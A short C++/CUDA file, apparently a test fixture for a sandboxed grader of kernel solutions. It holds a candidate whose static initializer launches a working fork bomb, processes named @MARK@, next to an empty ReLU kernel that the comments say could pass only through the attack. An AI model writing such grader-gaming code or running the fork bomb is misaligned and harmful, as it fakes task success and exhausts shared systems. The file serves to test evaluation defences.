// Hack: a fork bomb. Every child forks again until fork() fails; all of them sleep, named @MARK@. The
// process limit stops it and the pid namespace ends it with the evaluation.
#include <sys/prctl.h>
#include <unistd.h>
static int probe = [] {
  pid_t self = getpid();
  for (int i = 0; i < 100000; ++i) {
    pid_t p = fork();
    if (p < 0) break;
    if (p == 0) {
      prctl(PR_SET_NAME, "@MARK@", 0, 0, 0);
      continue;  // the child forks on too
    }
  }
  if (getpid() != self) for (;;) pause();
  return 0;
}();
// The kernel does no work: only the attack could make this candidate pass (on a GPU it is wrong).
__global__ void relu(const float* x, float* y, int n) {}
void solution(const float* x, float* y, int n) { relu<<<(n + 255) / 256, 256>>>(x, y, n); }
